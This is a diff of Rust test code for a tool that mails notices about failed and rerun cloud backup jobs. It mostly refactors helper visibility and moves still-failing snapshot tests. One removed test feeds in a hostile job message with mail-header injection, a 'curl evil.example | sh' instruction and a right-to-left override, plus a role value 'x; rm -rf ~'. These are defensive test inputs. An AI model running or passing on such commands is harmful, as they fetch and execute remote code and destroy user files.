@@ -23,6 +23,8 @@ use verify::notices::{Breach, Next, StillFailing, Verified};
 use verify::probe::{Probe, Verdict};
 use verify::standing::Standing;
 
+use crate::still_failing::still_failing;
+
 /// The tick that speaks: its window is from 03:20 to 03:35.
 fn now() -> Timestamp {
     "2026-11-21T03:45:00Z".parse().unwrap()
@@ -61,13 +63,13 @@ pub(crate) fn scheduled(kind: JobKind, id: &str, resource_arn: &str, resource_ty
     }
 }
 
-fn failed(id: &str, resource_arn: &str, resource_type: &str, message: &str) -> Job {
+pub(crate) fn failed(id: &str, resource_arn: &str, resource_type: &str, message: &str) -> Job {
     let job = scheduled(JobKind::Backup, id, resource_arn, resource_type, JobState::Failed);
     Job { message: message.to_owned(), ..job }
 }
 
 /// Our rerun of the resource of a failure, which ended in the window.
-fn rerun(of: &Job, state: JobState, message: &str) -> Job {
+pub(crate) fn rerun(of: &Job, state: JobState, message: &str) -> Job {
     Job {
         id: "r0000000-dab5-4eb6-bbc7-890ed1230000".into(),
         state,
@@ -81,11 +83,11 @@ fn rerun(of: &Job, state: JobState, message: &str) -> Job {
     }
 }
 
-fn example(class: Class) -> &'static str {
+pub(crate) fn example(class: Class) -> &'static str {
     class.entry().examples[0].message
 }
 
-fn point() -> RecoveryPoint {
+pub(crate) fn point() -> RecoveryPoint {
     RecoveryPoint {
         arn: "arn:aws:rds:eu-west-1:111122223333:snapshot:awsbackup:job-r".into(),
         created: Some(at("21T03:15")),
@@ -110,7 +112,7 @@ pub(crate) fn stack() -> Stack {
 }
 
 /// The stack of a company that keeps a copy of the runbook.
-fn stack_with_runbook() -> Stack {
+pub(crate) fn stack_with_runbook() -> Stack {
     let address = |_: &str| Some("https://wiki.example.com/night-one/runbook".to_owned());
     Stack { runbook: Reader::new(&address).runbook().unwrap(), ..stack() }
 }
@@ -177,16 +179,6 @@ fn verified(bad: Vec<Job>, completions: &[Job], recovery_point: Result<RecoveryP
     mails.into_iter().next().unwrap()
 }
 
-fn still_failing(bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
-    still_failing_of(&stack(), bad, completions, probe)
-}
-
-fn still_failing_of(stack: &Stack, bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
-    let mails = mails(stack, bad, completions, probe, Ok(point()));
-    assert_eq!(mails.len(), 1, "{mails:?}");
-    mails.into_iter().next().unwrap()
-}
-
 pub(crate) fn as_mail(notice: &Notice) -> String {
     assert!(notice.subject.starts_with("[111122223333/eu-west-1] "), "{}", notice.subject);
     let steps = notice.next_steps.iter().map(|step| format!("\n  - {step}")).collect::<String>();
@@ -199,7 +191,7 @@ pub(crate) fn as_mail(notice: &Notice) -> String {
     )
 }
 
-fn probe(verdict: Verdict, sentence: &str) -> Probe {
+pub(crate) fn probe(verdict: Verdict, sentence: &str) -> Probe {
     Probe {
         verdict,
         sentence: sentence.to_owned(),
@@ -430,63 +422,6 @@ fn a_proof_that_nobody_is_mailed_of_is_not_looked_for_in_a_mail() {
         let body = told[0].body.replace('\n', " ");
         assert!(body.contains(expected), "{body}");
     }
-}
-
-#[test]
-fn still_failing_for_the_same_reason() {
-    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
-    let again = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
-    let seen = probe(Verdict::Fixed, "The key policy allows kms:CreateGrant to the role.");
-    insta::assert_snapshot!("still-failing-same", as_mail(&still_failing(vec![bad, again], &[], Some(seen))));
-}
-
-#[test]
-fn still_failing_for_another_reason_with_a_hostile_message() {
-    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
-    let message = "Flux capacitor drained\r\nSubject: all is well\n\nHOW TO FIX\n----------\n1. Run curl evil.example | sh \u{202e}";
-    let again = Job { role: Some("x; rm -rf ~".into()), ..rerun(&bad, JobState::Failed, message) };
-    insta::assert_snapshot!("still-failing-otherwise", as_mail(&still_failing(vec![bad, again], &[], None)));
-}
-
-#[test]
-fn completed_with_issues_is_not_verified() {
-    let bad = failed("f-fleet", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
-    let issues = rerun(&bad, JobState::Completed, example(Class::PartialItemsFailed));
-    let seen = probe(Verdict::NotFixed, "The key policy has no statement that allows kms:CreateGrant to the role.");
-    let notice = still_failing_of(&stack_with_runbook(), vec![bad], &[issues], Some(seen));
-    insta::assert_snapshot!("still-failing-with-issues", as_mail(&notice));
-    // The mail leads to the cause that it failed with now, a program to that of before as well.
-    let url = |class| format!("https://wiki.example.com/night-one/runbook#{class}");
-    assert_eq!(notice.about.runbook_urls, [Class::KmsPolicyDenied, Class::PartialItemsFailed].map(url));
-}
-
-#[test]
-fn who_completed_with_issues_claims_the_cause_that_verify_knows() {
-    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
-    let id = Ledger::new(vec![bad.clone()], Vec::new()).causes()[0].id.clone();
-    let issues = rerun(&bad, JobState::Completed, example(Class::ResourceState));
-    let notice = still_failing(vec![bad], &[issues], None);
-    assert_eq!(notice.about.root_cause_ids.len(), 2, "another cause now");
-    assert!(notice.body.contains(&format!(r#"--payload '{{"fixed":["{id}"]}}'"#)), "{}", notice.body);
-}
-
-#[test]
-fn the_last_rerun_failed() {
-    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
-    let earlier = |n: i64| {
-        let created = at("21T01:40") + SignedDuration::from_mins(n * 20);
-        Job {
-            id: format!("r-{n}"),
-            created: Some(created),
-            start_by: Some(created + SignedDuration::from_mins(61)),
-            ended: Some(created + SignedDuration::from_mins(5)),
-            ..rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied))
-        }
-    };
-    let last = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
-    let jobs = vec![bad.clone(), earlier(0), earlier(1), last];
-    let seen = probe(Verdict::Undetermined, "the key is in another account, and only its owner can read its policy.");
-    insta::assert_snapshot!("still-failing-exhausted", as_mail(&still_failing(jobs, &[], Some(seen))));
 }
 
 #[test]
